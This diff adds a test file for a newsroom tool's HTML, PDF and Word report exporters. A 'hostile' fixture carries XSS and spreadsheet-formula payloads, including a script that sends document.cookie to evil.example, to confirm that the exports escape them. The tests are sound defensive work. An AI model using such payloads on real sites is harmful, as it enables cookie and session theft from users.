@@ -1,0 +1,296 @@
+import { execFileSync, spawnSync } from 'node:child_process'
+import { mkdtempSync, readFileSync, writeFileSync, existsSync, readdirSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { strFromU8, unzipSync } from 'fflate'
+import { describe, expect, it } from 'vitest'
+import { readFixture } from '../../test/fixtures'
+import { analyze } from '../analysis/analyze'
+import { buildArticle } from '../article/build'
+import { textQuote } from '../annotation/review'
+import type { Annotation } from '../annotation/types'
+import { importBytes } from '../import/index'
+import { exportStory } from './index'
+import { buildReportModel } from './model'
+import { sampleExportInput } from './sample'
+import type { ExportInput } from './types'
+
+function reuters(): ExportInput {
+  const { articles } = importBytes(readFixture('wire/reuters-putin-lukashenko-aggregator.txt'), 'reuters.txt')
+  const article = articles[0]
+  if (!article) throw new Error('no article in the Reuters fixture')
+  return sampleExportInput(article, analyze(article))
+}
+
+function editorNote(text: string, needle: string, note: string, id = 'n1'): Annotation {
+  const start = text.indexOf(needle)
+  if (start < 0) throw new Error(`not in text: ${needle}`)
+  return {
+    id,
+    storyId: 's',
+    versionId: 'v',
+    kind: 'note',
+    origin: 'editor',
+    start,
+    end: start + needle.length,
+    selector: textQuote(text, start, start + needle.length),
+    status: null,
+    decision: null,
+    speaker: null,
+    attribution: null,
+    cue: null,
+    note,
+    evidence: [],
+    suggestionId: null,
+    anchor: 'exact',
+    author: 'Dana <b>Editor</b>',
+    createdAt: '2024-05-02T10:00:00Z',
+    updatedAt: '2024-05-02T10:00:00Z',
+  }
+}
+
+/** A story whose text, headline and notes carry markup that must come out as text. */
+function hostile(): ExportInput {
+  const article = buildArticle({
+    format: 'text',
+    headline: 'Mayor says <script>alert("x")</script> is "fine" & safe',
+    source: 'Wire <img src=x onerror=alert(1)>',
+    paragraphs: [
+      'The mayor said: "<script>document.location=\'https://evil.example/\'+document.cookie</script> is harmless," on Monday.',
+      '=HYPERLINK("https://evil.example","click") and @SUM(A1) and +1 and -2 cost 3 million dollars, the council said.',
+    ],
+  })
+  const analysis = analyze(article)
+  const annotations = [
+    editorNote(article.text, '<script>document.location', 'Check this <iframe src="https://evil.example"></iframe>'),
+    editorNote(article.text, '=HYPERLINK("https://evil.example","click")', '=1+1', 'n2'),
+  ]
+  annotations[1] = { ...(annotations[1] as Annotation), kind: 'claim', status: 'false', evidence: ['javascript:alert(1)'] }
+  return { article, analysis, annotations, meta: { storyId: 's1', version: '2', checkedBy: 'Sam <Desk>', checkedAt: '2024-05-02T11:00:00Z' } }
+}
+
+describe('report model', () => {
+  it('numbers placed annotations in text order and cuts blocks into runs with the same marks', () => {
+    const input = reuters()
+    const m = buildReportModel(input.article, input.annotations, input.analysis, input.meta)
+    expect(m.annotations.map((a) => a.n)).toEqual(m.annotations.map((_, i) => i + 1))
+    for (let i = 1; i < m.annotations.length; i++) expect(m.annotations[i]?.start).toBeGreaterThanOrEqual(m.annotations[i - 1]?.start as number)
+    for (const b of m.blocks) {
+      expect(b.segments.map((s) => s.text).join('')).toBe(input.article.text.slice(b.start, b.end))
+      for (const s of b.segments) {
+        for (const n of s.marks) {
+          const a = m.annotations[n - 1]
+          expect(a && a.start < s.end && a.end > s.start).toBe(true)
+        }
+      }
+    }
+    // Every placed annotation ends exactly once (one reference mark each).
+    const ends = m.blocks.flatMap((b) => b.segments.flatMap((s) => s.ends))
+    expect([...ends].sort((a, b) => a - b)).toEqual(m.annotations.map((a) => a.n))
+  })
+
+  it('lets an editor decision replace its suggestion, drops rejected records, and keeps misplaced ones as orphans', () => {
+    const input = reuters()
+    const speaker = input.annotations.find((a) => a.kind === 'speaker') as Annotation
+    const rejected = { ...speaker, id: 'rej', origin: 'editor' as const, decision: 'rejected' as const, suggestionId: speaker.id }
+    const stray = { ...editorNote(input.article.text, 'Putin', 'stale'), id: 'stray', start: 5, end: 10, selector: { exact: 'words from an old version', prefix: '', suffix: '' } }
+    const m = buildReportModel(input.article, [...input.annotations, rejected, stray], input.analysis, input.meta)
+    const ids = m.annotations.map((a) => a.id)
+    expect(ids).not.toContain('rej')
+    expect(ids).not.toContain(speaker.id)
+    // The decision is shown in place of its suggestion, under the suggestion's id (the id the desk's mark carries).
+    expect(ids).not.toContain('editor-1')
+    const decided = input.annotations.find((a) => a.id === 'editor-1')?.suggestionId
+    expect(m.annotations.find((a) => a.id === decided)).toMatchObject({ origin: 'editor', status: 'verified', author: 'Dana Editor' })
+    expect(m.orphans.map((o) => o.id)).toEqual(['stray'])
+  })
+})
+
+describe('HTML report', () => {
+  it('is one self-contained page: inline CSS, no scripts, nothing remote', () => {
+    const html = exportStory('html', reuters()) as string
+    expect(html.startsWith('<!DOCTYPE html>')).toBe(true)
+    expect(html).not.toMatch(/<script|<link|<img|<iframe|@import|url\(|src=/i)
+    expect(html).toContain("default-src 'none'")
+    expect(html).toMatch(/<style>[\s\S]*mark\.k-quote/)
+  })
+
+  it('shows the legend, quotes with speakers, claims with status/evidence/notes, margin notes, findings, credits, source, version and checker', () => {
+    const input = reuters()
+    const html = exportStory('html', input) as string
+    for (const label of ['Quote', 'Claim', 'Speaker', 'Credit', 'Note']) expect(html).toMatch(new RegExp(`class="sw k-${label.toLowerCase()}"></span>${label}`))
+    expect(html).toMatch(/<td>“We know the situation in Belarus[^<]*”<\/td><td>Vladimir Putin<\/td>/)
+    expect(html).toContain('<a href="https://example.org/source-document">')
+    expect(html).toContain('verified')
+    expect(html).toContain('Checked against the filing.')
+    expect(html).toMatch(/<aside class="margin">(<p>.*?<\/p>)*<p><span class="tag k-note">\d+<\/span> Ask the reporter for the second source\./)
+    expect(html).toMatch(/Findings \(\d+ errors, \d+ warnings, \d+ notes\)/)
+    expect(html).toContain('<td>Reporting</td><td>Vladimir Soldatkin</td>')
+    expect(html).toContain('<dt>Source</dt><dd>Reuters</dd>')
+    expect(html).toContain('<dt>Version</dt><dd>1</dd>')
+    expect(html).toContain('<dt>Checked by</dt><dd>Dana Editor</dd>')
+    expect(html).toContain('<dt>Checked at</dt><dd>2024-05-02T11:00:00.000Z</dd>')
+    // Every story word is there, in order, once the marks are taken away.
+    const story = /<article>([\s\S]*)<\/article>/.exec(html)?.[1] ?? ''
+    const plain = story.replace(/<sup[^>]*>\d+<\/sup>/g, '').replace(/<aside[\s\S]*?<\/aside>/g, '').replace(/<[^>]+>/g, '')
+    expect(plain.replace(/&#39;/g, "'").replace(/&quot;/g, '"').replace(/&amp;/g, '&').replace(/\s+/g, ' ').trim()).toBe(
+      input.article.text.replace(/\s+/g, ' '),
+    )
+  })
+
+  it('exports a story containing <script> as text, and escapes notes, names and links', () => {
+    const html = exportStory('html', hostile()) as string
+    const unmarked = html.replace(/<\/?mark[^>]*>|<sup[^>]*>\d+<\/sup>/g, '')
+    expect(html).not.toMatch(/<script|<iframe|<img|<b>|javascript:alert\(1\)"/i)
+    expect(html).toContain('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;')
+    expect(unmarked).toContain('&lt;script&gt;document.location=&#39;https://evil.example/&#39;+document.cookie&lt;/script&gt;')
+    expect(html).toContain('Check this &lt;iframe src=&quot;https://evil.example&quot;&gt;&lt;/iframe&gt;')
+    expect(html).toContain('Sam &lt;Desk&gt;')
+    expect(html).not.toContain('href="javascript:')
+  })
+})
+
+function pdfTools(): { ppm: boolean; text: boolean } {
+  const has = (cmd: string) => spawnSync(cmd, ['-v'], { encoding: 'utf8' }).error === undefined
+  return { ppm: has('pdftoppm'), text: has('pdftotext') }
+}
+
+describe('PDF report', () => {
+  const tools = pdfTools()
+  const dir = mkdtempSync(join(tmpdir(), 'wiremark-pdf-'))
+
+  it('is a well-formed PDF with the report text', () => {
+    const pdf = exportStory('pdf', reuters()) as Uint8Array
+    const head = strFromU8(pdf.subarray(0, 8), true)
+    expect(head).toBe('%PDF-1.4')
+    const tail = strFromU8(pdf.subarray(pdf.length - 40), true)
+    const startxref = Number(/startxref\n(\d+)\n%%EOF/.exec(tail)?.[1])
+    expect(strFromU8(pdf.subarray(startxref, startxref + 4), true)).toBe('xref')
+    if (!tools.text) {
+      console.warn('SKIPPED (text part): pdftotext is not installed (apt-get install poppler-utils)')
+      return
+    }
+    const file = join(dir, 'reuters.pdf')
+    writeFileSync(file, pdf)
+    const text = execFileSync('pdftotext', ['-layout', file, '-'], { encoding: 'utf8' })
+    for (const s of ['Putin says Lukashenko should start dialogue', 'Checked by Dana Editor', 'Legend:', 'Quotes (4)', 'Vladimir Soldatkin', 'Ask the reporter for the second', 'page 1 of']) {
+      expect(text.replace(/\s+/g, ' ')).toContain(s)
+    }
+  })
+
+  it('renders to PNG pages with pdftoppm', () => {
+    if (!tools.ppm) {
+      console.warn('SKIPPED: pdftoppm is not installed (apt-get install poppler-utils); the PDF was not rendered')
+      return
+    }
+    const file = join(dir, 'render.pdf')
+    writeFileSync(file, exportStory('pdf', reuters()) as Uint8Array)
+    const r = spawnSync('pdftoppm', ['-r', '60', '-png', file, join(dir, 'page')], { encoding: 'utf8' })
+    expect(r.status).toBe(0)
+    expect(r.stderr).toBe('') // poppler reports broken streams and xref tables on stderr
+    const pngs = readdirSync(dir).filter((f) => f.startsWith('page') && f.endsWith('.png'))
+    expect(pngs.length).toBeGreaterThanOrEqual(2)
+    const png = readFileSync(join(dir, pngs.sort()[0] as string))
+    expect([...png.subarray(1, 4)]).toEqual([0x50, 0x4e, 0x47])
+  })
+
+  it('breaks long stories over pages and says how many non-Latin characters it had to replace', () => {
+    const para = 'Officials said the figure rose by 12 percent in 2023, the highest on record, according to the ministry. '
+    const article = buildArticle({
+      format: 'text',
+      headline: 'Łódź and Kraków: “Ми переможемо,” he said — مرحبا',
+      paragraphs: [...Array.from({ length: 40 }, () => para.repeat(3)), 'Zürich café: “déjà vu” – Œuvre № 5 ½.'],
+    })
+    const input = sampleExportInput(article, analyze(article))
+    const pdf = exportStory('pdf', input) as Uint8Array
+    if (!tools.text) {
+      console.warn('SKIPPED: pdftotext is not installed; the page break and replacement notice were not read back')
+      return
+    }
+    const file = join(dir, 'long.pdf')
+    writeFileSync(file, pdf)
+    const text = execFileSync('pdftotext', [file, '-'], { encoding: 'utf8' })
+    const pages = Number(/page 1 of (\d+)/.exec(text)?.[1])
+    expect(pages).toBeGreaterThanOrEqual(4)
+    // ó is WinAnsi; Ł → L and ź → z keep the word readable; Cyrillic, Arabic and № become "?" and are counted.
+    expect(text).toContain('Lódz and Kraków')
+    expect(text.replace(/\s+/g, ' ')).toMatch(/Latin only: 18 characters of the story text cannot be drawn and appear as "\?"/)
+    expect(text).toContain('Zürich café: “déjà vu” – Œuvre')
+  })
+})
+
+describe('Word report', () => {
+  const input = reuters()
+  const docx = exportStory('docx', input) as Uint8Array
+  const files = unzipSync(docx)
+  const doc = strFromU8(files['word/document.xml'] as Uint8Array)
+  const comments = strFromU8(files['word/comments.xml'] as Uint8Array)
+  const model = buildReportModel(input.article, input.annotations, input.analysis, input.meta)
+  const unxml = (s: string) => s.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&amp;/g, '&')
+
+  it('is a package with the parts and relationships Word needs', () => {
+    expect(Object.keys(files).sort()).toEqual(
+      ['[Content_Types].xml', '_rels/.rels', 'docProps/core.xml', 'word/_rels/document.xml.rels', 'word/comments.xml', 'word/document.xml', 'word/styles.xml'].sort(),
+    )
+    expect(strFromU8(files['[Content_Types].xml'] as Uint8Array)).toContain('PartName="/word/comments.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml"')
+    expect(strFromU8(files['word/_rels/document.xml.rels'] as Uint8Array)).toContain('relationships/comments" Target="comments.xml"')
+  })
+
+  it('has one comment per annotation, anchored around exactly the annotated words', () => {
+    const ids = [...comments.matchAll(/<w:comment w:id="(\d+)"/g)].map((m) => Number(m[1]))
+    expect(ids).toEqual(model.annotations.map((a) => a.n))
+    const covered = new Map<number, string>()
+    const open = new Set<number>()
+    for (const m of doc.matchAll(/<w:commentRangeStart w:id="(\d+)"\/>|<w:commentRangeEnd w:id="(\d+)"\/>|<w:t[^>]*>([^<]*)<\/w:t>|<\/w:p>/g)) {
+      if (m[1]) open.add(Number(m[1]))
+      else if (m[2]) open.delete(Number(m[2]))
+      else
+        for (const id of open) covered.set(id, (covered.get(id) ?? '') + (m[3] !== undefined ? unxml(m[3]) : '\n\n'))
+    }
+    expect(open.size).toBe(0)
+    for (const a of model.annotations) {
+      expect(covered.get(a.n), `comment ${a.n}`).toBe(a.exact)
+      expect(doc).toContain(`<w:commentReference w:id="${a.n}"/>`)
+    }
+  })
+
+  it('gives each comment its author, date, kind, speaker, status and note', () => {
+    const claim = /<w:comment w:id="\d+" w:author="Dana Editor" w:date="2024-05-02T10:15:00Z" w:initials="DE">(.*?)<\/w:comment>/.exec(comments)?.[1] ?? ''
+    expect(claim).toContain('Claim · source: Vladimir Putin · status: verified')
+    expect(claim).toContain('Note: Checked against the filing.')
+    expect(claim).toContain('Evidence: https://example.org/source-document')
+    expect(comments).toMatch(/w:author="wiremark \(suggestion\)" w:date="2024-05-02T09:30:00Z"/)
+    expect(comments).toContain('Quote · speaker: Vladimir Putin · status: confirmed')
+  })
+
+  it('escapes markup in the story and drops characters XML cannot carry', () => {
+    const h = hostile()
+    const bad = { ...h, article: { ...h.article, headline: 'Bell\u0007 and <b>bold</b>' } }
+    const x = strFromU8(unzipSync(exportStory('docx', bad) as Uint8Array)['word/document.xml'] as Uint8Array)
+    expect(x).not.toMatch(/<script|<b>/)
+    expect(x).not.toContain('\u0007')
+    expect(x).toContain('&lt;script&gt;document.location')
+  })
+
+  it('opens in LibreOffice with the comments intact (where LibreOffice is installed)', () => {
+    const soffice = ['soffice', 'libreoffice'].find((c) => spawnSync(c, ['--version'], { encoding: 'utf8' }).error === undefined)
+    if (!soffice) {
+      console.warn('SKIPPED: LibreOffice (soffice) is not installed, so the .docx was not converted headless; the XML checks above still ran')
+      return
+    }
+    const dir = mkdtempSync(join(tmpdir(), 'wiremark-docx-'))
+    const file = join(dir, 'report.docx')
+    writeFileSync(file, docx)
+    const r = spawnSync(soffice, [`-env:UserInstallation=file://${dir}/profile`, '--headless', '--convert-to', 'odt', '--outdir', dir, file], {
+      encoding: 'utf8',
+      timeout: 120_000,
+    })
+    expect(r.status, r.stderr).toBe(0)
+    expect(existsSync(join(dir, 'report.odt'))).toBe(true)
+    const content = strFromU8(unzipSync(new Uint8Array(readFileSync(join(dir, 'report.odt'))))['content.xml'] as Uint8Array)
+    const annotations = content.match(/<office:annotation[ >]/g) ?? []
+    expect(annotations.length).toBe(model.annotations.length)
+    expect(content).toContain('Checked against the filing.')
+    expect(content).toContain('<dc:creator>Dana Editor</dc:creator>')
+  })
+})
